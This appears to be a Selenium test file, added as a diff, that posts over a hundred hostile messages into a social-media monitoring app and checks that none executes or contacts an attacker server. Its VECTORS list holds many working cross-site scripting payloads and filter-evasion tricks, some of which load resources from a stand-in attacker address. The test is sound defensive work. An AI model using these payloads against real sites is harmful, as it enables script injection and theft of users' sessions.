@@ -1,0 +1,156 @@
+"""Hostile input in the real app: over a hundred XSS payloads posted through the simulator reach
+the inbox, the detail pane, the author panel, search results and desktop notifications, and none
+runs — no dialog, no navigation, no request to the attacker's host, no script marker set."""
+import http.server
+import threading
+
+from selenium.common.exceptions import NoAlertPresentException
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+
+from conftest import free_port, wait_until
+from test_app import by_testid, sim_call
+
+# {A} is the attacker's address; {N} is the payload's number (scripts set window.__pwned = N).
+VECTORS = [
+    '<script>window.__pwned={N}</script>',
+    '<script src="{A}/s{N}.js"></script>',
+    '<img src=x onerror="window.__pwned={N}">',
+    '<img src="{A}/i{N}.png">',
+    '<svg onload="window.__pwned={N}">',
+    '<svg><script>window.__pwned={N}</script></svg>',
+    '<svg><a xlink:href="javascript:window.__pwned={N}"><text>x</text></a></svg>',
+    '<svg><image href="{A}/svg{N}.png"/></svg>',
+    '<body onload="window.__pwned={N}">',
+    '<iframe src="javascript:parent.__pwned={N}"></iframe>',
+    '<iframe src="{A}/f{N}"></iframe>',
+    '<iframe srcdoc="<script>parent.__pwned={N}</script>"></iframe>',
+    '<a href="javascript:window.__pwned={N}">click</a>',
+    '<a href="data:text/html,<script>window.__pwned={N}</script>">data</a>',
+    '<a href="{A}/a{N}">attacker link</a>',
+    '<form action="{A}/form{N}"><button>go</button></form>',
+    '<input autofocus onfocus="window.__pwned={N}">',
+    '<details open ontoggle="window.__pwned={N}">',
+    '<video><source onerror="window.__pwned={N}"></video>',
+    '<audio src=x onerror="window.__pwned={N}">',
+    '<object data="{A}/o{N}"></object>',
+    '<embed src="{A}/e{N}">',
+    '<link rel=stylesheet href="{A}/c{N}.css">',
+    '<style>@import "{A}/imp{N}.css";</style>',
+    '<div style="background:url({A}/bg{N}.png)">bg</div>',
+    '<div style="width:expression(window.__pwned={N})">ie</div>',
+    '<meta http-equiv="refresh" content="0;url={A}/meta{N}">',
+    '<base href="{A}/">',
+    '<marquee onstart="window.__pwned={N}">m</marquee>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned={N}">',
+    '"><img src=x onerror=window.__pwned={N}>',
+    "'><script>window.__pwned={N}</script>",
+    '</textarea><script>window.__pwned={N}</script>',
+    '</title><script>window.__pwned={N}</script>',
+    '<scr<script>ipt>window.__pwned={N}</scr</script>ipt>',
+    '<SCRIPT>window.__pwned={N}</SCRIPT>',
+    '<img src=x oNeRrOr=window.__pwned={N}>',
+    '<img src=x onerror=&#119;indow.__pwned={N}>',
+    '<img src="jav&#x09;ascript:window.__pwned={N}">',
+    'javascript:window.__pwned={N}',
+    '[click me](javascript:window.__pwned={N})',
+    '![x]({A}/md{N}.png)',
+    '<x onclick=window.__pwned={N}>click</x>',
+    '\u202e<img src=x onerror=window.__pwned={N}>',
+    '\uff1cscript\uff1ewindow.__pwned={N}\uff1c/script\uff1e',
+    '{{{{constructor.constructor("window.__pwned={N}")()}}}}',
+    '${{window.__pwned={N}}}',
+    '<template><img src=x onerror=window.__pwned={N}></template>',
+    '<noscript><p title="</noscript><img src=x onerror=window.__pwned={N}>">',
+    '<isindex action="javascript:window.__pwned={N}" type=image>',
+    '<table background="{A}/tb{N}.png"><td>t</td></table>',
+    '<img srcset="{A}/ss{N}.png 1x">',
+    '<picture><source srcset="{A}/p{N}.png"><img></picture>',
+    '<div onmouseover="window.__pwned={N}">hover</div>',
+    '<button formaction="javascript:window.__pwned={N}">b</button>',
+]
+
+
+class Recorder(http.server.BaseHTTPRequestHandler):
+    hits = []
+
+    def do_GET(self):
+        Recorder.hits.append(self.path)
+        self.send_response(200)
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, *args):
+        pass
+
+
+def payloads(attacker):
+    out = []
+    for i, v in enumerate(VECTORS):
+        for j, frame in enumerate(['{p}', 'Brightside Coffee refund now!! {p}']):
+            n = i * 2 + j + 1
+            out.append(frame.format(p=v.replace('{A}', attacker).replace('{N}', str(n))))
+    return out
+
+
+def no_harm(app, where):
+    try:
+        app.switch_to.alert
+        raise AssertionError(f'a dialog opened ({where})')
+    except NoAlertPresentException:
+        pass
+    assert app.execute_script('return window.__pwned === undefined'), f'a payload ran ({where})'
+    assert app.execute_script('return location.href') == app.start_url, f'the page navigated ({where})'
+    assert not Recorder.hits, f'requests reached the attacker ({where}): {Recorder.hits}'
+    assert not app.find_elements(By.CSS_SELECTOR, 'main script, main iframe, main object, main embed, main svg image, main img[src^="http"]')
+
+
+def test_a_hundred_hostile_posts_render_as_text_everywhere_and_nothing_runs(app, fakebus):
+    port = free_port()
+    server = http.server.ThreadingHTTPServer(('127.0.0.1', port), Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    Recorder.hits.clear()
+    attacker = f'http://127.0.0.1:{port}'
+    try:
+        wait_until(lambda: by_testid(app, 'mention'), 'the inbox')
+        app.start_url = app.execute_script('return location.href')
+        sent = payloads(attacker)
+        assert len(sent) >= 100
+        for i, p in enumerate(sent):
+            net = 'bluesky' if i % 2 else 'mastodon'
+            text = f'Brightside hostile{i} {p}' + (' #brightsidecoffee' if net == 'mastodon' else '')
+            # Handles carry payloads too: they reach the author panel and notification titles.
+            handle = f'x{i}<img src={attacker}/h{i}.png>' + ('.bsky.social' if net == 'bluesky' else '')
+            sim_call(app, 'POST', '/_sim/post', {'net': net, 'handle': handle, 'followers': 90000, 'text': text})
+
+        # Search finds them; each row shows the payload as text.
+        box = by_testid(app, 'search')[0]
+        box.send_keys('hostile0')
+        # The handle's payload shows as text in the row (the author is x0<img …>).
+        wait_until(lambda: any(f'x0<img src={attacker}' in r.text for r in by_testid(app, 'mention')), 'search results')
+        no_harm(app, 'search results')
+        box.send_keys(Keys.CONTROL, 'a')
+        box.send_keys('hostile')
+        rows = wait_until(lambda: (r := by_testid(app, 'mention')) and len([x for x in r if '<img src=' in x.text]) >= 40 and r,
+                          'the hostile posts in the inbox')
+        no_harm(app, 'inbox')
+        # Open a spread of them: the detail pane, the thread and the author panel render each.
+        for row in rows[:25]:
+            row.click()
+            detail = wait_until(lambda: by_testid(app, 'detail-text') and by_testid(app, 'detail-text')[0].text,
+                                'the detail text')
+            assert 'hostile' in detail
+            wait_until(lambda: by_testid(app, 'author-panel'), 'the author panel')
+            no_harm(app, 'detail pane and author panel')
+        shown = by_testid(app, 'detail-text')[0].text
+        assert '<' in shown or 'javascript:' in shown or 'Brightside' in shown, 'payload shown as its own text'
+
+        # Notifications carry the payloads escaped for the server's markup.
+        calls = wait_until(lambda: [c for c in fakebus.notifications.calls if 'hostile' in c['body']] or None,
+                           'notifications of the hostile posts')
+        for c in calls:
+            assert '<' not in c['body'] and '>' not in c['body'], f'markup escaped in the body: {c["body"]!r}'
+        no_harm(app, 'after notifications')
+    finally:
+        server.shutdown()
